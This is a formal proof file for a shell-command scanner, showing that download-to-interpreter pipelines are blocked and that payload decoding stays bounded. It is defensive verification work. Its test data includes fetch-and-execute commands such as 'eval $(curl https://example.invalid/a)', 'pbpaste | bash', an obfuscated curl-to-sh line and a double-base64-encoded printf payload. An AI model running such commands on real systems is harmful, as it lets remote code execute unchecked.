(* ===== verification/ShellScannerFacts.v ===== *)
(** What the command scanner guarantees: a pipeline from a downloader into an interpreter
    is found however its words are quoted, and decoding stays within its bounds. *)

From S2P Require Import Prelude PyStr PyFloat PyDict PyJson PyRepr ShellTokenizer TextRegex Utf8 ShellConfig License ShellScanner.
From Stdlib Require Import Ascii.

(** ** Pipelines *)

(** Commands of quoted words, with a bar between. *)
Fixpoint pipeline (cmds : list (list text)) : text :=
  match cmds with
  | [] => []
  | [ws] => shell_join ws
  | ws :: cmds' => shell_join ws ++ [32; 124; 32] ++ pipeline cmds'
  end.

Definition bar : Token := {| tk_kind := "separator"; tk_value := [124] |}.

Fixpoint pipeline_tokens `{UnicodeEnv} (cmds : list (list text)) : list Token :=
  match cmds with
  | [] => []
  | [ws] => word_token <$> ws
  | ws :: cmds' => (word_token <$> ws) ++ bar :: pipeline_tokens cmds'
  end.

(** A command has words, and words have characters. *)
Definition command_ok (ws : list text) : Prop := ws <> [] /\ Forall (fun w => w <> []) ws.

Section Tokens.
Context `{UnicodeEnv}.

(** The words of a command, the last of them still buffered. *)
Lemma lex_command d ws s out st : command_ok ws -> between_words out st ->
  exists st', lex d (shell_join ws ++ s) st = lex d s st' /\ quiet st' None /\ finish st' = Ok (flush st')
    /\ between_words (out ++ (word_token <$> ws)) (flush st').
Proof.
  intros [Hne Hws]. revert out st. induction Hws as [|w ws Hw Hws IH]; [done|]. intros out st Hst.
  destruct ws as [|w' ws].
  - exists (absorb_word w st). cbn [shell_join]. rewrite lex_word by apply Hst. split; [done|].
    split; [split; [apply Hst|done]|]. split; [|by apply flush_word].
    unfold finish. cbn [ls_quote ls_escaped absorb_word]. by rewrite (proj1 (proj1 Hst)).
  - change (shell_join (w :: w' :: ws)) with (shell_quote w ++ space :: shell_join (w' :: ws)).
    rewrite <- app_assoc, lex_word by apply Hst. rewrite <- app_comm_cons.
    rewrite (lex_cons _ _ _ _ _ (step_space d _ (absorb_word w st) (conj (proj1 (proj1 Hst)) eq_refl))).
    destruct (IH ltac:(done) (out ++ [word_token w]) (flush (absorb_word w st))) as (st' & Hl & Hq & Hf & Hb);
      [by apply flush_word|]. exists st'. split_and!; try done. by rewrite <- app_assoc in Hb.
Qed.

Lemma flush_idle out st : between_words out st -> flush st = st.
Proof. intros (_ & Hb & _). unfold flush. by rewrite Hb. Qed.

Lemma step_bar d out st : between_words out st ->
  step d 124 (Some 32) st = Ok (emit [bar] st, false) /\ between_words (out ++ [bar]) (emit [bar] st).
Proof.
  intros Hst. pose proof (flush_idle out st Hst) as Hf. destruct Hst as ((He & Hq) & Hb & Ho & Hn). split.
  - unfold step. rewrite He, Hq. cbn -[flush_with]. unfold flush_with. by rewrite Hf.
  - unfold emit, between_words, quiet. cbn. by rewrite Ho.
Qed.

Lemma lex_pipeline d cmds out st : Forall command_ok cmds -> between_words out st ->
  exists st', (st1 ← lex d (pipeline cmds) st; finish st1) = Ok st'
    /\ ls_out st' = out ++ pipeline_tokens cmds /\ ls_escaped_name st' = false.
Proof.
  intros Hc. revert out st. induction Hc as [|ws cmds Hws Hc IH]; intros out st Hst.
  - exists st. cbn. pose proof (flush_idle out st Hst) as Hf. destruct Hst as ((He & Hq) & Hb & Ho & Hn).
    unfold finish. by rewrite Hq, He, Hf, app_nil_r.
  - destruct cmds as [|ws' cmds].
    + cbn [pipeline pipeline_tokens]. destruct (lex_command d ws [] out st Hws Hst) as (st' & Hl & Hq & Hf & Hb).
      rewrite app_nil_r in Hl. rewrite Hl. cbn. rewrite Hf. exists (flush st'). destruct Hb as (_ & _ & Ho & Hn). done.
    + change (pipeline (ws :: ws' :: cmds)) with (shell_join ws ++ 32 :: 124 :: 32 :: pipeline (ws' :: cmds)).
      destruct (lex_command d ws (32 :: 124 :: 32 :: pipeline (ws' :: cmds)) out st Hws Hst) as (st' & Hl & Hq & Hf & Hb).
      rewrite Hl, (lex_cons _ _ _ _ _ (step_space d _ st' Hq)). destruct (step_bar d _ _ Hb) as [Hs Hb'].
      rewrite (lex_cons d 124 (32 :: pipeline (ws' :: cmds)) _ _ Hs), (lex_cons _ _ _ _ _ (step_space d _ _ (proj1 Hb'))), (flush_idle _ _ Hb').
      destruct (IH _ _ Hb') as (st2 & Hl2 & Ho & Hn). exists st2. split; [done|]. split; [|done].
      rewrite Ho, <- !app_assoc. done.
Qed.

Lemma add_tokens_app segments l k : foldl add_token segments (l ++ k) = foldl add_token (foldl add_token segments l) k.
Proof. apply foldl_app. Qed.

Lemma add_pipeline cmds closed : Forall command_ok cmds -> cmds <> [] ->
  exists l, closed ++ cmds = l.1 ++ [l.2] /\ foldl add_token (closed, []) (pipeline_tokens cmds) = l.
Proof.
  intros Hc. revert closed. induction Hc as [|ws cmds Hws Hc IH]; [done|]. intros closed _. destruct cmds as [|ws' cmds].
  - exists (closed, ws). cbn [pipeline_tokens]. by rewrite add_words.
  - change (pipeline_tokens (ws :: ws' :: cmds)) with ((word_token <$> ws) ++ bar :: pipeline_tokens (ws' :: cmds)).
    rewrite add_tokens_app, add_words. cbn [foldl app]. change (add_token (closed, ws) bar) with (closed ++ [ws], @nil text).
    destruct (IH (closed ++ [ws]) ltac:(done)) as (l & Hl & Hf). exists l. split; [|done].
    rewrite <- Hl, <- app_assoc. done.
Qed.

Lemma segments_pipeline cmds : Forall command_ok cmds -> cmds <> [] -> command_segments (pipeline_tokens cmds) = cmds.
Proof.
  intros Hc Hne. destruct (add_pipeline cmds [] Hc Hne) as ([closed current] & Hl & Hf). unfold command_segments.
  rewrite Hf. cbn in Hl. rewrite <- Hl. apply filter_all. eapply Forall_impl; [exact Hc|]. by intros ws [].
Qed.

(** Text the clean-up leaves alone. *)
Definition clean (s : text) : Prop := Forall (fun c => clean_cp c = true) s.

Lemma pipeline_impl (P Q : Z -> Prop) cmds : (forall c, P c -> Q c) -> Forall (Forall (Forall P)) cmds ->
  Forall (Forall (Forall Q)) cmds.
Proof.
  intros Hpq Hc. eapply Forall_impl; [exact Hc|]. intros ws Hws. eapply Forall_impl; [exact Hws|]. intros w Hw.
  eapply Forall_impl; [exact Hw|exact Hpq].
Qed.

(** A pipeline has the characters of its words, quotes, blanks and bars. *)
Lemma pipeline_chars (P : Z -> Prop) cmds : P squote -> P dquote -> P space -> P 124 ->
  Forall (Forall (Forall P)) cmds -> Forall P (pipeline cmds).
Proof.
  intros H1 H2 H3 H4. assert (forall w, Forall P w -> Forall P (shell_quote w)) as Hq.
  { intros w Hw. unfold shell_quote. constructor; [done|]. apply Forall_app. split; [|by repeat constructor].
    induction Hw as [|c w Hc _ IH]; [constructor|]. cbn. apply Forall_app. split; [|done].
    unfold quote_char. destruct (c =? squote); by repeat constructor. }
  assert (forall ws, Forall (Forall P) ws -> Forall P (shell_join ws)) as Hj.
  { induction 1 as [|w ws Hw Hws IH]; [constructor|]. destruct ws as [|w' ws]; [by apply Hq|].
    change (shell_join (w :: w' :: ws)) with (shell_quote w ++ space :: shell_join (w' :: ws)).
    apply Forall_app. split; [by apply Hq|by constructor]. }
  induction 1 as [|ws cmds Hws Hc IH]; [constructor|]. destruct cmds as [|ws' cmds]; [by apply Hj|].
  change (pipeline (ws :: ws' :: cmds)) with (shell_join ws ++ [32; 124; 32] ++ pipeline (ws' :: cmds)).
  apply Forall_app. split; [by apply Hj|]. apply Forall_app. split; [by repeat constructor|done].
Qed.

Lemma tokenize_pipeline cmds d : Forall command_ok cmds -> cmds <> [] -> Forall (Forall clean) cmds ->
  nfkc (pipeline cmds) = pipeline cmds ->
  exists tz, tokenize (pipeline cmds) d = Ok tz /\ command_segments (tz_tokens tz) = cmds
    /\ tz_normalized tz = pipeline cmds.
Proof.
  intros Hc Hne Hcl Hn. pose proof (pipeline_chars _ cmds eq_refl eq_refl eq_refl eq_refl Hcl) as Hj. unfold tokenize. rewrite Hn, (visible_clean _ Hj).
  unfold text; rewrite (filter_all (A:=Z)) by (eapply Forall_impl; [exact Hj|]; intros c Hcc; apply (clean_parts c Hcc)).
  destruct (lex_pipeline d cmds [] start_state Hc) as (st & Hl & Ho & _); [by repeat split|].
  destruct (lex d (pipeline cmds) start_state) as [st1|e]; [|done]. cbn in Hl |- *. rewrite Hl.
  eexists. split; [done|]. cbn. rewrite Ho. split; [by apply segments_pipeline|done].
Qed.
End Tokens.

(** ** Detection *)

Lemma starts_elem c p s : starts p s = true -> c ∈ p -> c ∈ s.
Proof.
  revert s. induction p as [|a p IH]; intros s Hs Hc; [by apply not_elem_of_nil in Hc|].
  destruct s as [|b s]; [done|]. cbn in Hs. apply andb_true_iff in Hs as [->%Z.eqb_eq Hs].
  apply elem_of_cons in Hc as [-> | Hc]; [by apply list_elem_of_here|]. apply list_elem_of_further. by apply IH.
Qed.

Lemma remove_all_absent c old s : c ∈ old -> c ∉ s -> remove_all old 0 s = s.
Proof.
  intros Hc. induction s as [|a s IH]; intros Hs; [done|]. cbn [remove_all].
  destruct (starts old (a :: s)) eqn:Ho; [by destruct (Hs (starts_elem c old _ Ho Hc))|].
  rewrite IH; [done|]. intros Hin. apply Hs. by apply list_elem_of_further.
Qed.

Section Detection.
Context `{ScanEnv}.

Lemma ansi_needs_escape s : 27 ∉ s -> search ansi_pattern s = false.
Proof.
  intros Hs. apply not_true_iff_false. unfold search, search_match. intros Hm%bool_decide_eq_true.
  apply search_from_spec in Hm as (n & st' & _ & Hm). apply Hs. rewrite <- (take_drop n s). apply elem_of_app. right.
  let r := eval vm_compute in ansi_pattern in change ansi_pattern with r in Hm.
  do 4 (apply matches_cat_inv in Hm as (? & Hm & _)). apply matches_cat_inv in Hm as (st1 & He & Hm).
  apply matches_eps_inv in He as ->. apply matches_set_inv in Hm as (c & s' & Hr & Hc & _).
  change ((27 =? c) = true) in Hc. apply Z.eqb_eq in Hc as <-. cbn in Hr. rewrite Hr. apply list_elem_of_here.
Qed.

Lemma detection_plain command : 27 ∉ command -> 10 ∉ command -> detection_command command = command.
Proof.
  intros He Hn. unfold detection_command.
  rewrite (remove_all_absent 10 [92; 13; 10]), (remove_all_absent 10 [92; 10]); try done;
    try (apply list_elem_of_In; cbn; tauto).
  apply sub_none. by apply ansi_needs_escape.
Qed.

Lemma pairs_adjacent {A} (l : list A) a b k : (a, b) ∈ pairs (l ++ a :: b :: k).
Proof.
  induction l as [|x l IH]; [apply list_elem_of_here|]. cbn [app]. destruct l as [|y l]; cbn [app] in *.
  - apply list_elem_of_further. exact IH.
  - apply list_elem_of_further. exact IH.
Qed.

Lemma names_app l a wa b wb k : head a = Some wa -> head b = Some wb ->
  omap (fun segment : list text => base <$> head segment) (l ++ a :: b :: k)
  = omap (fun segment : list text => base <$> head segment) l
    ++ base wa :: base wb :: omap (fun segment : list text => base <$> head segment) k.
Proof. intros Ha Hb. rewrite omap_app. cbn. by rewrite Ha, Hb. Qed.

Lemma dmem_dset (k k' : string) (v : Z) d : dmem k d = true -> dmem k (dset k' v d) = true.
Proof.
  unfold dmem. destruct (decide (k = k')) as [->|Hne]; [by rewrite dget_dset_eq|]. by rewrite dget_dset_ne.
Qed.

(** A rule that fires and is not disabled is among the rules. *)
Lemma collect_keeps disabled adds rules rule n : dmem rule rules = true \/ (rule, n) ∈ adds -> rule ∉ disabled ->
  dmem rule (foldl (add_rule disabled) rules adds) = true.
Proof.
  intros Hr Hd. revert rules Hr. induction adds as [|[r m] adds IH]; intros rules Hr.
  - destruct Hr as [Hr|Hr]; [done|by apply not_elem_of_nil in Hr].
  - cbn [foldl]. apply IH. unfold add_rule. cbn [fst snd]. destruct (one_of r disabled) eqn:Ho.
    + destruct Hr as [|[[= -> ->]|Hr]%elem_of_cons]; [by left| |by right]. apply one_of_spec in Ho. done.
    + destruct Hr as [Hr|[[= -> ->]|Hr]%elem_of_cons]; [left; by apply dmem_dset| |by right].
      left. unfold dmem. by rewrite dget_dset_eq.
Qed.

Lemma hard_blocks config request v rules rule : rule ∈ HARD -> dmem rule rules = true ->
  decide_scan config request true v rules = "block".
Proof.
  intros Hh Hr. unfold decide_scan, hard_block. cbn [andb].
  assert (existsb (fun r => dmem r rules) HARD = true) as ->; [|done].
  apply existsb_exists. exists rule. split; [by apply list_elem_of_In|done].
Qed.

(** A scan that passes the checks on the form of the command ends in one of three ways. *)
Lemma scan_parsed_ends request command parsed config t d : scan_parsed request command parsed config t = Ok d ->
  (sd_decision d = "error" /\ is_Some (sd_error d))
  \/ exists v decoding depth paste, view command parsed = Ok v /\ is_paste (rq_paste_origin request) = Ok paste
       /\ let rules := collect (gc_disabled_rule_ids config)
            (execution_rules v ++ system_rules v ++ obfuscation_rules v ++ decoding ++ symbolic_rules v (rq_phase request)) in
          decoding_rules v config = Ok (decoding, depth)
          /\ sd_decision d = decide_scan config request paste v rules /\ sd_rule_ids d = sort_by str_le (keys rules).
Proof.
  unfold scan_parsed. intros (v & Hv & Hs)%res_bind_ok. destruct (decoding_rules v config) as [[decoding depth]|e] eqn:Hd.
  - apply res_bind_ok in Hs as (paste & Hp & Hs). destruct (fltb _ _); injection Hs as <-; [left; by eexists|].
    right. by exists v, decoding, depth, paste.
  - destruct e; try done. injection Hs as <-. left. by eexists.
Qed.

Lemma scan_request_ends request command config t d : rq_command request = Some command ->
  scan_request request config t = Ok d ->
  (sd_decision d = "error" /\ is_Some (sd_error d))
  \/ exists parsed, tokenize (detection_command command) 32 = Ok parsed
       /\ (sha256_hex (utf8_encode command) ∈ gc_exact_hash_allowlist config
           \/ scan_parsed request command parsed config t = Ok d).
Proof.
  unfold scan_request. intros ->. destruct (_ <? _); [intros [= <-]; left; by eexists|].
  destruct (tokenize _ _) as [parsed|e]; [|destruct e; try done; intros [= <-]; left; by eexists].
  intros Hs. right. exists parsed. split; [done|]. destruct (one_of _ _) eqn:Ho; [left; by apply one_of_spec|by right].
Qed.

(** Detection: a pasted pipeline in which the output of a downloader goes to an
    interpreter is blocked under the rule for it, or the scan ends in an error it
    reports, whatever the other commands are, whatever the words hold and however they
    are quoted; unless the rule is disabled or the very command is excepted. *)
Theorem quoted_download_is_found (before after : list (list text)) (source sink : list text) (wa wb : text)
    (request : ScanRequest) (config : ShellGuardConfig) (t : ScanClock) (d : ScanDecision) :
  let cmds := before ++ source :: sink :: after in
  head source = Some wa -> named (base wa) DOWNLOADERS = true ->
  head sink = Some wb -> named (base wb) INTERPRETERS = true ->
  Forall command_ok cmds -> Forall (Forall (Forall (fun c => clean_cp c = true /\ c <> 10))) cmds ->
  nfkc (pipeline cmds) = pipeline cmds ->
  rq_command request = Some (pipeline cmds) -> is_paste (rq_paste_origin request) = Ok true ->
  ("network_to_interpreter" ∉ gc_disabled_rule_ids config) ->
  (sha256_hex (utf8_encode (pipeline cmds)) ∉ gc_exact_hash_allowlist config) ->
  scan_request request config t = Ok d ->
  (sd_decision d = "block" /\ "network_to_interpreter" ∈ sd_rule_ids d)
  \/ (sd_decision d = "error" /\ is_Some (sd_error d)).
Proof.
  intros cmds Ha Hna Hb Hnb Hcmds Hcl Hn Hcmd Hpaste Hrule Hhash Hs.
  assert (Forall (fun c => clean_cp c = true /\ c <> 10) (pipeline cmds)) as Hall by by apply pipeline_chars.
  assert (detection_command (pipeline cmds) = pipeline cmds) as Hdet.
  { rewrite Forall_forall in Hall. apply detection_plain; intros Hin; by destruct (Hall _ Hin). }
  assert (cmds <> []) as Hne by (by destruct before).
  assert (Forall (Forall clean) cmds) as Hclean.
  { eapply pipeline_impl; [|exact Hcl]. by intros c []. }
  destruct (tokenize_pipeline cmds 32 Hcmds Hne Hclean Hn) as (tz & Htz & Hseg & _).
  apply (scan_request_ends _ _ _ _ _ Hcmd) in Hs as [He|(parsed & Hp & [Hin|Hs])]; [by right|done|].
  rewrite Hdet, Htz in Hp. injection Hp as <-.
  apply scan_parsed_ends in Hs as [He|(v & decoding & depth & paste & Hv & Hip & _ & Hd & Hids)]; [by right|].
  rewrite Hpaste in Hip. injection Hip as <-. left.
  assert (network_relationship v = true) as Hnet.
  { unfold view in Hv. apply res_bind_ok in Hv as (rp & _ & [= <-]).
    unfold network_relationship, downloads_to_shell, feeds. cbn [vw_names vw_resolved_names].
    assert (existsb (fun ab => named ab.1 DOWNLOADERS && named ab.2 INTERPRETERS)
      (pairs (command_names (tz_tokens tz)) ++ pairs (command_names (tz_tokens rp))) = true) as ->; [|done].
    apply existsb_exists. exists (base wa, base wb). split; [|cbn [fst snd]; by rewrite Hna, Hnb]. apply list_elem_of_In, elem_of_app. left.
    unfold command_names. rewrite Hseg. unfold cmds. rewrite (names_app _ _ wa _ wb _ Ha Hb). apply pairs_adjacent. }
  set (rules := collect _ _) in Hd, Hids.
  assert (dmem "network_to_interpreter" rules = true) as Hr.
  { apply (collect_keeps _ _ _ _ 8); [right|done]. apply elem_of_app. left. unfold execution_rules. rewrite Hnet.
    apply elem_of_app. right. apply elem_of_app. left. cbn [when]. apply list_elem_of_here. }
  rewrite Hd, Hids. split.
  - apply (hard_blocks _ _ _ _ "network_to_interpreter"); [apply list_elem_of_here|done].
  - rewrite sort_by_perm. by apply dmem_keys.
Qed.

(** ** Decoding *)

Lemma fromhex_length s b : fromhex s = Some b -> zlen s = 2 * zlen b.
Proof.
  revert b. induction s as [s IH] using (induction_ltof1 _ (@length Z)); unfold ltof in IH. intros b.
  destruct s as [|x [|y s]]; cbn [fromhex]; [by intros [= <-]|done|]. destruct (hex_digit x); [|done]. destruct (hex_digit y); [|done].
  cbn. destruct (fromhex s) as [r|] eqn:Hr; [|done]. intros [= <-]. rewrite !zlen_cons.
  rewrite (IH s ltac:(cbn; lia) r Hr). lia.
Qed.

Lemma bounded_gzip_length data limit out : bounded_gzip data limit = Ok out -> zlen out <= limit.
Proof.
  unfold bounded_gzip. destruct (inflate _ _) as [z|]; [|done]. destruct (_ || _); [done|].
  destruct (Z.ltb_spec limit (zlen (in_output z ++ in_flushed z))); [done|]. intros [= <-]. lia.
Qed.

Lemma decode_base64_length limit g s v : decode_base64 limit g s = Ok (Some v) -> zlen v <= limit.
Proof.
  unfold decode_base64. destruct (_ <? _); [done|]. destruct (b64decode _) as [raw|]; [|done].
  destruct (Z.ltb_spec limit (zlen (bytes_of raw))) as [|Hl]; [done|]. intros (b & Hb & [= <-])%res_bind_ok.
  etransitivity; [apply utf8_decode_length|]. destruct (_ && _); [by apply bounded_gzip_length in Hb|by injection Hb as <-].
Qed.

Lemma decode_hex_length limit s v : decode_hex limit s = Ok (Some v) -> zlen v <= limit.
Proof.
  unfold decode_hex. destruct (Z.ltb_spec limit (zlen s / 2)) as [|Hl]; [done|].
  destruct (fromhex s) as [b|] eqn:Hb; [|done]. intros [= <-]. etransitivity; [apply utf8_decode_length|].
  apply fromhex_length in Hb. rewrite Hb, Z.mul_comm, Z.div_mul in Hl by lia. lia.
Qed.

Definition sized (limit : Z) (l : list text) : Prop := Forall (fun v => zlen v <= limit) l.

Lemma decode_matches_sized limit r decode s l :
  (forall lit v, decode lit = Ok (Some v) -> zlen v <= limit) -> decode_matches r decode s = Ok l -> sized limit l.
Proof.
  intros Hd. unfold decode_matches. intros (vs & Hv%res_map_Forall2 & [= <-])%res_bind_ok.
  unfold sized. induction Hv as [|m v ms vs Hm _ IH]; [constructor|]. cbn. destruct v as [v|]; [|done].
  constructor; [by apply (Hd _ _ Hm)|done].
Qed.

Lemma decode_text_sized limit s l : decode_text limit s = Ok l -> sized limit l.
Proof.
  unfold decode_text. destruct (search _ s); [|intros [= <-]; constructor].
  intros (a & Ha & (b & Hb & [= <-])%res_bind_ok)%res_bind_ok. apply Forall_app. split.
  - eapply decode_matches_sized; [|exact Ha]. intros lit v. apply decode_base64_length.
  - eapply decode_matches_sized; [|exact Hb]. intros lit v. apply decode_hex_length.
Qed.

Lemma concat_sized limit ls : Forall (sized limit) ls -> sized limit (concat ls).
Proof. induction 1 as [|l ls Hl _ IH]; [constructor|]. cbn. by apply Forall_app. Qed.

Lemma decode_layers_bound limit n depth frontier decoded l k :
  decode_layers limit n depth frontier decoded = Ok (l, k) ->
  depth <= k <= depth + Z.of_nat n /\ exists more, l = decoded ++ more /\ sized limit more /\ (more = [] <-> k = depth).
Proof.
  assert (forall (depth : Z) (decoded : list text),
    exists more, decoded = decoded ++ more /\ sized limit more /\ (more = [] <-> depth = depth)) as Hstop.
  { intros d dec. exists []. rewrite app_nil_r. split; [done|]. split; [apply Forall_nil_2|done]. }
  revert depth frontier decoded. induction n as [|n IH]; intros depth frontier decoded; cbn [decode_layers].
  - intros [= <- <-]. split; [lia|apply (Hstop depth)].
  - intros (next & Hn%res_map_Forall2 & Hd)%res_bind_ok.
    assert (sized limit (concat next)) as Hs.
    { apply concat_sized. clear -Hn. induction Hn as [|s l frontier next Hl _ IH]; constructor; [|done].
      by apply (decode_text_sized limit s). }
    destruct (concat next) as [|f found] eqn:Hc; [injection Hd as <- <-; split; [lia|apply (Hstop depth)]|].
    apply IH in Hd as (Hk & more & -> & Hm & _). split; [lia|]. exists ((f :: found) ++ more). rewrite app_assoc.
    split; [done|]. split; [by apply Forall_app|]. split; [done|lia].
Qed.

(** C15. Bounds: whatever the command holds and whatever the decompressor answers, decoding
    goes no deeper than the policy allows, every decoded text is within the policy's
    limit, and the reported depth is zero exactly when nothing was decoded. *)
Theorem decoding_is_bounded (command : text) (config : ShellGuardConfig) (l : list text) (depth : Z) :
  literal_decode command config = Ok (l, depth) -> 0 <= gc_maximum_decode_depth config ->
  0 <= depth <= gc_maximum_decode_depth config
  /\ Forall (fun v => zlen v <= gc_maximum_decode_bytes config) l /\ (l = [] <-> depth = 0).
Proof.
  intros Hd Hmax. apply decode_layers_bound in Hd as (Hk & more & -> & Hs & Hz). split; [lia|]. by split.
Qed.
End Detection.

(** ** Commands *)

#[local] Instance scan_env : ScanEnv := {|
  scan_unicode := ascii_env; text_lower := fmap (fun c => if between 65 90 c then c + 32 else c);
  sha256_hex := fun b => "h" +:+ string_of b; inflate := fun _ _ => None |}.

Definition paste_of (command : text) : ScanRequest := {|
  rq_command := Some command; rq_phase := "paste"; rq_paste_origin := VStr "paste"; rq_multiline := false;
  rq_trailing_newline := false; rq_context := [] |}.

Definition quick : ScanClock := {| sc_checked := 2000000; sc_finished := 2100000 |}.

Definition verdict (command : text) : res (string * Z * list string * Z) :=
  match scan_request (paste_of command) default_guard quick with
  | Ok d => Ok (sd_decision d, sd_score d, sd_rule_ids d, sd_decoder_depth d)
  | Raise e => Raise e
  end.

(** [/usr/bin/CURL -s 'http://a b'], then [tee x|y], then [zsh], the second word of
    the first quoted over a bar. *)
Definition sample_source : list text := text_of <$> ["/usr/bin/CURL"; "-s|"; "http://a b"].
Definition sample_sink : list text := text_of <$> ["/bin/zsh"].
Definition sample_pipeline : list (list text) := [text_of <$> ["echo"; "it's"]] ++ sample_source :: sample_sink :: [].

Definition sample_decision : ScanDecision :=
  match scan_request (paste_of (pipeline sample_pipeline)) default_guard quick with
  | Ok d => d
  | Raise _ => scan_error "" [] default_guard quick
  end.

Lemma quoted_download_is_found_witness :
  (sd_decision sample_decision = "block" /\ "network_to_interpreter" ∈ sd_rule_ids sample_decision)
  \/ (sd_decision sample_decision = "error" /\ is_Some (sd_error sample_decision)).
Proof.
  apply (quoted_download_is_found [text_of <$> ["echo"; "it's"]] [] sample_source sample_sink
    (text_of "/usr/bin/CURL") (text_of "/bin/zsh") (paste_of (pipeline sample_pipeline)) default_guard quick).
  - reflexivity.
  - vm_compute. reflexivity.
  - reflexivity.
  - vm_compute. reflexivity.
  - repeat constructor; discriminate.
  - vm_compute. repeat constructor; discriminate.
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - apply not_elem_of_nil.
  - apply not_elem_of_nil.
  - vm_compute. reflexivity.
Defined.

Definition twice_encoded : text := text_of "printf cHJpbnRmIFpXTm9ieUJvWld4c2J5QjBhR1Z5WlNCNWIzVT0gfCBiYXNlNjQgLWQ= | base64 -d".

Definition twice_decoded : list text * Z :=
  match literal_decode twice_encoded default_guard with Ok r => r | Raise _ => ([], 0) end.

Lemma decoding_is_bounded_witness : 0 <= twice_decoded.2 <= 2
  /\ Forall (fun v => zlen v <= 131072) twice_decoded.1 /\ (twice_decoded.1 = [] <-> twice_decoded.2 = 0).
Proof.
  apply (decoding_is_bounded twice_encoded default_guard).
  - vm_compute. reflexivity.
  - vm_compute. discriminate.
Defined.

Example decoded_twice : zlen twice_decoded.1 = 2 /\ twice_decoded.2 = 2.
Proof. by vm_compute. Qed.

(** Verdicts on commands of the repository's own tests. *)
Example verdicts :
  verdict <$> (text_of <$> ["eval $(curl https://example.invalid/a)"; "pbpaste | bash"; "a=cu; b=rl; $a$b x | sh";
    "curl -o archive.tar https://example.invalid/archive.tar"; "chmod +x ./local-script"])
  = [Ok ("block", 22, ["dynamic_execution"; "execution_obfuscation"; "network_to_eval"; "network_to_interpreter"], 0);
     Ok ("block", 9, ["clipboard_to_interpreter"], 0);
     Ok ("block", 13, ["environment_indirection"; "network_to_interpreter"; "reconstructed_executable"], 0);
     Ok ("allow", 0, [], 0); Ok ("allow", 0, [], 0)].
Proof. by vm_compute. Qed.

(** ** Where the promises end *)

(** A literal that looks like gzip and is not makes the scanner raise: [zlib.error] is
    no [ValueError], so it is not turned into an error decision. *)
Example broken_gzip_raises :
  verdict (text_of "printf H4sIAAAAAAAAAAAAAAAAAAAAAAAA | base64 -d | gunzip")
  = Raise (ZlibError "Error while decompressing data").
Proof. by vm_compute. Qed.
